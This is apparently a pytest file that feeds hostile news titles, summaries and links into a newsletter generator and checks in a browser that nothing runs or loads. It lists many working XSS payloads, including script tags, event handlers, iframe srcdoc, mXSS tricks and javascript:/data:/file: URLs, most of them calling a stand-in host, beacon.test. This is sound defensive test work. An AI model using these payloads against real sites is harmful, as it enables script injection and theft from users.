"""A newsletter of hostile news in a real browser: nothing runs, nothing is loaded, everything is text."""

from __future__ import annotations

import re
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from tests.browser.browser import Network, opened
from vectora_core.items import CuratedItem
from vectora_core.newsletter.candidates import Period
from vectora_core.newsletter.formats import as_html
from vectora_core.newsletter.issue import issue_of
from vectora_core.newsletter.selection import select
from vectora_shared.config.content import FolderContent
from vectora_shared.config.loading import load_configuration

CONFIG = Path(__file__).resolve().parents[2] / "config"
BEACON = "beacon.test"
HIT = f"document.title='hit';document.documentElement.dataset.hit='1';fetch('http://{BEACON}/ran')"
# Untrusted content for titles, summaries, names and addresses.
MARKUP = (
    f"<script>{HIT}</script>",
    f'<img src="http://{BEACON}/image" onerror="{HIT}">',
    f"<svg onload=\"{HIT}\"><image href='http://{BEACON}/svg'/></svg>",
    f'"><script src="http://{BEACON}/script"></script>',
    f"' onmouseover='{HIT}' autofocus onfocus='{HIT}' x='",
    f"</h3></td></table><iframe src='http://{BEACON}/frame' srcdoc='<script>{HIT}</script>'></iframe>",
    f'<meta http-equiv="refresh" content="0;url=http://{BEACON}/refresh">',
    f"<base href='http://{BEACON}/base/'><link rel=stylesheet href='http://{BEACON}/css'>",
    f"<style>@import 'http://{BEACON}/import';body{{background:url(http://{BEACON}/background)}}</style>",
    f"<form action='http://{BEACON}/form'><input autofocus onfocus=\"{HIT}\"></form>",
    f"<object data='http://{BEACON}/object'></object><embed src='http://{BEACON}/embed'>",
    f"<video src='http://{BEACON}/video' autoplay onerror=\"{HIT}\"></video>",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;&#x3c;script&#x3e;",
    f"<!--><script>{HIT}</script>-->",
    f'<math><mtext></form><form><mglyph><style></math><img src onerror="{HIT}">',
    f"<noscript><p title='</noscript><img src=x onerror=\"{HIT}\">'>",
    "\u202egpj.exe\u202c \u2066hidden\u2069 \x00\x1b]8;;http://x\x07",
    f"]({HIT}) ![x](http://{BEACON}/markdown) <http://{BEACON}/autolink>",
)
ADDRESSES = (
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\tscript:{HIT}",
    f" \x01javascript:{HIT}",
    f"&#106;avascript:{HIT}",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    f"//{BEACON}/relative",
    "https://user:password@bank.example/",
    f'https://example.org/"onclick="{HIT}',
    "https://example.org/' style='background:url(http://beacon.test/style)",
    "http://127.0.0.1/admin",
    "https://example.org/good?a=1&b=<2>",
    "https://example.org/good",
)


def _item(number: int, title: str, summary: str, url: str) -> CuratedItem:
    found = {"score": 0.9, "confidence": 0.9, "reasoning": "", "matched_entities": {}}
    return CuratedItem.model_validate(
        {
            "item_id": f"hostile_{number}",
            "source_key": f"press_sector__{'x' * number}",
            "source_type": "press_sector",
            # Numbered, because items with the same title are one story.
            "title": f"{number} {title}",
            "content": "",
            "url": url,
            "published_at": date(2026, 2, 1),
            "ingested_at": datetime(2026, 2, 2, tzinfo=UTC),
            "normalized_at": datetime(2026, 2, 2, tzinfo=UTC),
            "normalized_content": {
                "summary": summary,
                "entities": {"companies": [title], "trademarks": [summary]},
                "event_classification": {"primary_type": "other", "confidence": 0.9},
                "lai_relevance_score": 9,
                "anti_lai_detected": False,
                "pure_player_context": True,
                "normalization_metadata": {"analyzer": "bedrock"},
            },
            "matching_results": {"matched_domains": ["d"], "domain_relevance": {"d": found}},
            "scoring_results": {
                "base_score": 7,
                "bonuses": {},
                "penalties": {},
                "final_score": 10,
                "score_breakdown": dict.fromkeys(
                    (
                        "base_score",
                        "domain_relevance_factor",
                        "recency_factor",
                        "weighted_base",
                        "total_bonus",
                        "total_penalty",
                        "raw_score",
                    ),
                    1.0,
                )
                | {"scoring_mode": "balanced"},
            },
        }
    )


def _hostile_newsletter() -> str:
    """Return the newsletter as the function writes it; the client's own texts are hostile too."""
    configuration = load_configuration(FolderContent(CONFIG), "lai_weekly")
    document = configuration.client.model_dump()
    document["client_profile"]["name"] = MARKUP[0]
    document["newsletter_selection"]["max_items_total"] = 200
    section = {**document["newsletter_layout"]["sections"][-1], "title": MARKUP[1], "max_items": 200}
    document["newsletter_layout"]["sections"] = (section,)
    client = type(configuration.client).model_validate(document)
    count = max(len(MARKUP), len(ADDRESSES))
    items = [
        _item(n, MARKUP[n % len(MARKUP)], MARKUP[-1 - n % len(MARKUP)], ADDRESSES[n % len(ADDRESSES)])
        for n in range(count)
    ]
    selection = select(items, client)
    assert len(selection.items) == count
    with_client = type(configuration)(**{**vars(configuration), "client": client})
    day = date(2026, 2, 2)
    period = Period(date(2026, 1, 3), day)
    return as_html(issue_of(selection, with_client, day, datetime(2026, 2, 2, tzinfo=UTC), period=period, ingestion={}))


@pytest.mark.parametrize("defence", ["escaping and policy", "escaping alone"])
def test_hostile_news_neither_runs_nor_loads_anything(network: Network, tmp_path: Path, defence: str) -> None:
    page = _hostile_newsletter()
    if defence == "escaping alone":
        page, count = re.subn(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", page)
        assert count == 1
    document = LexborHTMLParser(opened(network, page, tmp_path))
    assert network.unexpected == []
    assert "GET http://newsletter.test/" in network.requests
    title, root = document.css_first("title"), document.css_first("html")
    assert title is not None
    assert title.text() != "hit"
    assert root is not None
    assert "data-hit" not in root.attributes
    loading = "script, img, svg, iframe, object, embed, video, audio, link, base, form, input, noscript"
    assert [node.tag for node in document.css(loading)] == []
    [style] = document.css("style")
    assert BEACON not in style.text()
    handlers = [name for node in document.css("*") for name in node.attributes if name.startswith("on")]
    assert handlers == []


def test_links_lead_only_to_the_web_and_mark_up_is_shown_as_text(network: Network, tmp_path: Path) -> None:
    document = LexborHTMLParser(opened(network, _hostile_newsletter(), tmp_path))
    links = [node.attributes.get("href") or "" for node in document.css("a")]
    assert "https://example.org/good" in links
    assert [link for link in links if not link.startswith("https://example.org/")] == []
    body = document.body
    assert body is not None
    text = body.text()
    assert "<script>document.title" in text
    assert "{{ 7 * 7 }}" in text
    assert "\u202e" not in text


def test_the_same_mark_up_runs_and_loads_if_it_is_not_escaped(network: Network, tmp_path: Path) -> None:
    """Show that the tests above can fail."""
    raw = "".join((MARKUP[0], MARKUP[1], MARKUP[3]))
    unsafe = f"<html><head><title>fine</title></head><body>{raw}</body></html>"
    document = LexborHTMLParser(opened(network, unsafe, tmp_path))
    assert f"GET http://{BEACON}/image" in network.unexpected
    assert f"GET http://{BEACON}/script" in network.unexpected
    title = document.css_first("title")
    assert title is not None
    assert title.text() == "hit"
    assert f"GET http://{BEACON}/ran" in network.unexpected


def test_a_very_long_word_does_not_make_the_page_wider_than_the_window(network: Network, tmp_path: Path) -> None:
    measure = (
        "<script>document.title=document.documentElement.scrollWidth<=innerWidth?'as wide':'wider'</script></body>"
    )
    page = re.sub(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", _hostile_newsletter())
    document = LexborHTMLParser(opened(network, page.replace("</body>", measure), tmp_path))
    title = document.css_first("title")
    assert title is not None
    assert title.text() == "as wide"
